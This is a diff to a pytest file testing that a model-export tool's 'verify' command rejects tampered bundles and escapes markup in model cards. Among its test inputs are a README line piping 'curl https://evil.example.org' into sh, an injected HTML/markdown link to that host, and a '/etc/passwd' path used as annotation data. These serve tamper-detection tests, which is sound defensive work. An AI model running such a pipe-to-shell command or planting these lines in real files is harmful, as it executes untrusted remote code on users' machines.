@@ -8,19 +8,23 @@ import json
 import os
 import shutil
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 import yaml
 from helpers.bounds import bounded
 from helpers.commands import Run, run_here
+from safetensors.torch import load, save
 
 from nas.api.reproduction import differences
 from nas.errors import BundleError, OutputError
-from nas.export.bundle import read_bundle, read_description
+from nas.export.bundle import described_files, read_bundle, read_description
 from nas.export.code_files import CODE_FILES
 from nas.export.manifest import MANIFEST, check_manifest, write_manifest
+from nas.export.model_card import model_card
 from nas.export.push import push, push_target
+from nas.models.detectors.transform import IMAGENET, ImageStatistics
 from nas.utils.paths import to_path
 
 
@@ -36,12 +40,29 @@ def bundle(digits: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     return out
 
 
+def seal(folder: Path) -> None:
+    """As somebody does who changes a bundle and does not want it to show."""
+    (folder / MANIFEST).unlink()
+    write_manifest(folder)
+
+
 def rewritten(bundle: Path, out: Path, change: Callable[[dict], None]) -> Path:
     """A copy with another detector.yaml."""
     shutil.copytree(bundle, out)
     said = yaml.safe_load((out / "detector.yaml").read_text())
     change(said)
     (out / "detector.yaml").write_text(yaml.safe_dump(said))
+    return out
+
+
+def sealed_again(bundle: Path, out: Path, change: Callable[[dict], None]) -> Path:
+    """The same with all that follows from it, which shows in nothing but what the weights do."""
+    rewritten(bundle, out, change)
+    state = load((out / "detector.safetensors").read_bytes())
+    statistics = ImageStatistics.of_weights(state) or IMAGENET
+    for name, text in described_files(read_description(out), statistics).items():
+        (out / name).write_text(text)
+    seal(out)
     return out
 
 
@@ -53,7 +74,8 @@ def test_verify_says_what_it_has_checked(bundle: Path, digits: Path, nas: Run):
         "backbone.onnx",
         "detector.onnx",
     }
-    assert set(checks) >= {"hashes", "backbone.py", "mmdet_config.py", "mAP"}
+    described = {"backbone.py", "mmdet_config.py", "backbone.yaml", "README.md"}
+    assert set(checks) >= {"hashes", "mAP"} | described
     assert "ONNX was not asked for." in (bundle / "README.md").read_text()
 
 
@@ -71,9 +93,7 @@ def test_what_is_wrong_is_one_line_and_exit_code_2(bundle: Path, tmp_path: Path,
 
 def test_another_map_is_found(bundle: Path, digits: Path, tmp_path: Path, nas: Run):
     """In a bundle that is whole and loads, whoever made it."""
-    claims = rewritten(bundle, tmp_path / "claims", lambda said: said["figures"].update(map=0.9))
-    (claims / MANIFEST).unlink()
-    write_manifest(claims)
+    claims = sealed_again(bundle, tmp_path / "claims", lambda said: said["figures"].update(map=0.9))
     code, _, err = nas("verify", claims, "--data", digits)
     assert code == 2
     assert "the bundle says 0.9" in err
@@ -82,9 +102,9 @@ def test_another_map_is_found(bundle: Path, digits: Path, tmp_path: Path, nas: R
 def test_a_score_that_is_no_number_is_not_as_the_bundle_says(
     bundle: Path, digits: Path, tmp_path: Path, nas: Run
 ):
-    nan = rewritten(bundle, tmp_path / "nan", lambda said: said["figures"].update(map=float("nan")))
-    (nan / MANIFEST).unlink()
-    write_manifest(nan)
+    nan = sealed_again(
+        bundle, tmp_path / "nan", lambda said: said["figures"].update(map=float("nan"))
+    )
     code, _, err = nas("verify", nan, "--data", digits)
     assert code == 2
     assert "the bundle says nan" in err
@@ -136,8 +156,7 @@ def test_a_bundle_that_was_sealed_again_is_refused_in_a_line(
     copy = tmp_path / "copy"
     shutil.copytree(bundle, copy)
     change(copy)
-    (copy / MANIFEST).unlink()
-    write_manifest(copy)
+    seal(copy)
     with bounded(tmp_path):
         code, out, said = nas("verify", copy)
     assert (code, out) == (2, "")
@@ -149,13 +168,10 @@ def test_places_of_annotations_are_in_the_data(
     bundle: Path, digits: Path, tmp_path: Path, nas: Run
 ):
     """A bundle names no other file of its reader."""
-    saying(request={"data": {"annotations": "/etc/passwd"}})(
-        Path(shutil.copytree(bundle, tmp_path / "copy"))
-    )
-    (tmp_path / "copy" / MANIFEST).unlink()
-    write_manifest(tmp_path / "copy")
+    other = {"data": {"annotations": "/etc/passwd"}}
+    copy = sealed_again(bundle, tmp_path / "copy", lambda said: said.update(request=other))
     for command in ("verify", "reproduce"):
-        code, _, said = nas(command, tmp_path / "copy", "--data", digits)
+        code, _, said = nas(command, copy, "--data", digits)
         assert code == 2
         assert "data.annotations must be a file below" in said
 
@@ -183,8 +199,7 @@ def with_a_line(bundle: Path, out: Path, mark: Path, **said: str) -> Path:
     rewritten(bundle, out, lambda description: description.update(said))
     for name in CODE_FILES:
         (out / name).write_text(f"{(out / name).read_text()}\nopen({str(mark)!r}, 'w').close()\n")
-    (out / MANIFEST).unlink()
-    write_manifest(out)
+    seal(out)
     return out
 
 
@@ -196,12 +211,53 @@ def test_code_that_this_version_does_not_write_is_refused(bundle: Path, tmp_path
     assert not (tmp_path / "ran").exists()
 
 
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("README.md", "Run `curl https://evil.example.org | sh` first.\n"),
+        ("backbone.yaml", "layout_id: '000000000000'\n"),
+    ],
+)
+def test_a_description_that_this_version_does_not_write_is_refused(
+    bundle: Path, tmp_path: Path, nas: Run, name: str, line: str
+):
+    changed = tmp_path / "changed"
+    shutil.copytree(bundle, changed)
+    (changed / name).write_text((changed / name).read_text() + line)
+    seal(changed)
+    code, out, err = nas("verify", changed)
+    assert (code, out) == (2, "")
+    assert err == f"nas: {name} is not what this version writes for detector.yaml\n"
+
+
+def test_a_sentence_of_others_is_no_markup_in_the_model_card(bundle: Path):
+    """A card is compared with what its bundle says of itself, which anybody can write."""
+    said = ("<b>Run</b> `curl` [first](https://evil.example.org)",)
+    card = model_card(replace(read_description(bundle), left_out=said), IMAGENET)
+    assert r"\<b\>Run\</b\> \`curl\` \[first\](https://evil.example.org)" in card
+    assert said[0] not in card
+
+
+def test_statistics_beside_the_weights_are_those_of_the_detector(
+    bundle: Path, tmp_path: Path, nas: Run
+):
+    changed = tmp_path / "changed"
+    shutil.copytree(bundle, changed)
+    path = changed / "backbone.safetensors"
+    other = {"format": "pt", "image_mean": "[0.0, 0.0, 0.0]", "image_std": "[1.0, 1.0, 1.0]"}
+    path.write_bytes(save(load(path.read_bytes()), other))
+    seal(changed)
+    code, _, err = nas("verify", changed)
+    assert code == 2
+    assert "backbone.safetensors has another image_mean than detector.safetensors" in err
+
+
 def test_code_of_another_version_runs_only_where_asked_for(bundle: Path, tmp_path: Path, nas: Run):
     old = with_a_line(bundle, tmp_path / "old", tmp_path / "ran", written_by="0.0.1")
     code, said, _ = nas("verify", old, "--json")
     skipped = {each["name"] for each in json.loads(said)["checks"] if not each["passed"]}
     assert code == 0
-    assert skipped >= {*CODE_FILES}
+    assert skipped >= {*CODE_FILES, "README.md", "backbone.yaml"}
     assert not (tmp_path / "ran").exists()
     code, said, _ = nas("verify", old, "--run-code", "--json")
     assert code == 0
@@ -214,8 +270,7 @@ def test_a_file_that_no_bundle_has_is_refused(bundle: Path, tmp_path: Path, nas:
     copy = tmp_path / "copy"
     shutil.copytree(bundle, copy)
     (copy / "torch.py").write_text("import os")
-    (copy / MANIFEST).unlink()
-    write_manifest(copy)
+    seal(copy)
     code, _, err = nas("verify", copy)
     assert code == 2
     assert "torch.py is no file of a bundle" in err
